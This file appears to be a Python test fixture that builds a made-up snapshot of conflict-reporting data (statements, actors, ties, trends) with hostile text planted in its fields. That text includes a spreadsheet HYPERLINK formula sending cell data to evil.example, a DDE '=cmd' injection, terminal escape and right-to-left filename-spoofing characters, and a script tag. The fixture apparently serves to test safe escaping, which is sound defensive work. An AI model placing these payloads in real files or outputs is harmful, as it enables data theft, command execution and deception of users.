"""A small made-up case as a snapshot, with hostile text wherever text is captured."""

from __future__ import annotations

from dataclasses import replace

from riftline.model import (
    Actor,
    Break,
    Claim,
    Counts,
    CoursePoint,
    Coverage,
    CoverageMonth,
    Decision,
    DocumentCard,
    Fold,
    Issue,
    Mention,
    Name,
    Period,
    Piece,
    Roster,
    Snapshot,
    Span,
    Statement,
    Statements,
    Tie,
    TieMonth,
    Trend,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
ESCAPES = "Reed\x1b[31mGuard\x07\u202egpj.exe\u2066\x00\x9b2J"
MARKUP = '<script>alert("&")</script> ]]> & "quoted"'

NORTH = Mention("North Brigade", Span(0, 13), "north brigade", "group")
VALLEY = Mention("Valley Front", Span(22, 34), "valley front", "group")
REED = Mention("the Reed Guard", Span(40, 54), "reed guard", "group")


def statement(
    id_: str,
    speaker: Mention,
    act: str,
    target: Mention | None,
    *,
    subject: Mention | None = None,
    document: str = "doc1",
    text: str = "North Brigade accused Valley Front of breaking the truce.",
    when: Period | None = None,
    hedges: tuple[Piece, ...] = (),
    stance: float | None = -0.5,
) -> Statement:
    return Statement(
        id=id_,
        document_id=document,
        evidence=Span(0, len(text)),
        text=text,
        speaker=speaker,
        cue=Piece("accused", Span(14, 21)),
        content=(Piece("of breaking the truce", Span(35, 56)),),
        mode="indirect",
        carriers=(Mention("Tidewater | News", None, "tidewater news", "outlet"),),
        subject=subject or speaker,
        act=act,
        target=target,
        stance=stance,
        stance_words=(),
        when=when,
        claim=Claim(hedges=hedges, polarity="asserted", distance="claimed"),
        glosses=(),
        confidence=0.8,
        rule="made",
    )


S1 = statement("s1", NORTH, "ACCUSE", VALLEY)
S2 = statement(
    "s2",
    VALLEY,
    "THREATEN",
    NORTH,
    document="doc2",
    text=FORMULA,
    hedges=(Piece("apparently", Span(3, 13)), Piece("a|b\\c", Span(3, 8))),
    when=Period("2031-03-02", "2031-03-02", "day", "on March 2", "2031-03-02", Span(5, 15)),
)
S3 = statement(
    "s3",
    NORTH,
    "ALLIED_WITH",
    REED,
    document="doc2",
    text=MARKUP,
    when=Period("2030-12-01", None, "month", "since December 2030", "2030-12/.."),
    stance=None,
)
S4 = statement(
    "s4", NORTH, "ACCUSE", VALLEY, document="doc2", text="-2+3 said\r\nthe North Brigade"
)

DOCS = (
    DocumentCard(
        "doc1", "ab" * 32, "https://tidewater.example/a?x=1|2", "=cmd|' /C calc'!A0", "@author",
        "Tidewater News", "2031-01-05", "en", "article", None, None, "2031-06-01T00:00:00+00:00",
        1,
    ),
    DocumentCard(
        "doc2", "cd" * 32, "file:///posts/2", ESCAPES, None, None, "2031-03-03T10:00:00+03:00",
        "ru", "post", "Telegram", "+reedguard", "2031-06-01T00:00:00+00:00", 3,
    ),
)  # fmt: skip

ACTORS = (
    Actor(
        "act-n", "North Brigade", "group",
        (Name("North Brigade", "north brigade", "official", "en", "Latin", "", "doc1", Span(0, 13)),
         Name("Северная бригада", "северная бригада", "translation", "ru", "Cyrillic")),
        ("north brigade", "северная бригада"), 4,
    ),
    Actor(
        "act-v", FORMULA, "group",
        (Name(FORMULA, "valley front"), Name("Valley Front", "valley front")),
        ("valley front",), 3,
    ),
    Actor(
        "act-r", ESCAPES, "group",
        (Name(ESCAPES, "reed guard", "pejorative"), Name(MARKUP, "reed guard"),
         Name("Guard", "reed guard")),
        ("reed guard",), 1,
    ),
    Actor("act-g", "Guard", "person", (Name("Guard", "guard"),), ("guard",), 0),
)  # fmt: skip

ROSTER = Roster(ACTORS, {k: a.id for a in ACTORS for k in a.keys}, {a.id: a for a in ACTORS})

TIES = (
    Tie(
        "act-n",
        "act-v",
        (
            TieMonth("2031-01", Counts(0.4, 0.0, 0.0, 1, 2, ("s1",)), Counts()),
            TieMonth("2031-03", Counts(0.3, 0.0, 0.1, 1, 1, ("s4",)), Counts()),
        ),
    ),
    Tie("act-v", "act-n", (TieMonth("2031-03", Counts(0.7, 0.1, 0.0, 1, 1, ("s2",)), Counts()),)),
    Tie("act-n", "act-r", (), states=("s3",)),
)

COVERAGE = Coverage(
    (
        CoverageMonth("2031-01", 1, 1, 1),
        CoverageMonth("2031-02", 0, 0, 0),
        CoverageMonth("2031-03", 1, 1, 3),
    ),
    2,
    2,
    0,
)

TREND = Trend(
    "act-n",
    "act-v",
    (
        CoursePoint("2031-01", 0.6, 0.2, 0.9, 0.4, 0.0, 0.0, 1, 2, ("s1",)),
        CoursePoint("2031-02", 0.58, 0.15, 0.92, 0.0, 0.0, 0.0, 0, 0, ()),
        CoursePoint("2031-03", 0.7, 0.3, 0.95, 1.0, 0.1, 0.1, 2, 2, ("s2", "s4")),
    ),
    Break("2031-01", "2031-03", 0.71, "worse"),
    (Break("2031-01", "2031-03", 0.71, "worse"),),
    0.83,
    "rift",
    ("s2",),
    COVERAGE,
    3,
    4,
)

DECISIONS = (
    Decision("d1", "same", "north brigade", "северная бригада", who="@ann", at="2031-06-02",
             why=FORMULA),
    Decision("d2", "wrong", "s9", who="bo", at="2031-06-03", anchor="doc2:0:9:ACCUSE"),
)  # fmt: skip

ISSUES = (
    Issue("undated", "doc1", ESCAPES, "a date", "give --published"),
    Issue("vanished", "posts/=gone.txt", "the file could not be opened", span=Span(1, 2)),
)

SNAPSHOT = Snapshot(
    name="Made\x1b case",
    revision=7,
    documents=DOCS,
    all_statements=Statements((S1, S2, S3, S4)),
    roster=ROSTER,
    folds=(
        Fold("s1", ("s1", "s4"), ("Tidewater News",)),
        Fold("s2", ("s2",), ("Tidewater News",)),
        Fold("s3", ("s3",), ("Tidewater News",)),
    ),
    ties=TIES,
    trends=(TREND,),
    coverage=COVERAGE,
    issues=ISSUES,
    decisions=DECISIONS,
    said={"s1": "2031-01-05", "s2": "2031-03-02", "s3": "2031-03-03", "s4": None},
    fold_of={"s1": "s1", "s2": "s2", "s3": "s3", "s4": "s1"},
    captures=2,
)


def replaced(**changes: object) -> Snapshot:
    """`SNAPSHOT` with other fields; statements may be any sequence."""
    if "all_statements" in changes:
        changes["all_statements"] = Statements(changes["all_statements"])  # type: ignore[arg-type]
    return replace(SNAPSHOT, **changes)  # type: ignore[arg-type]
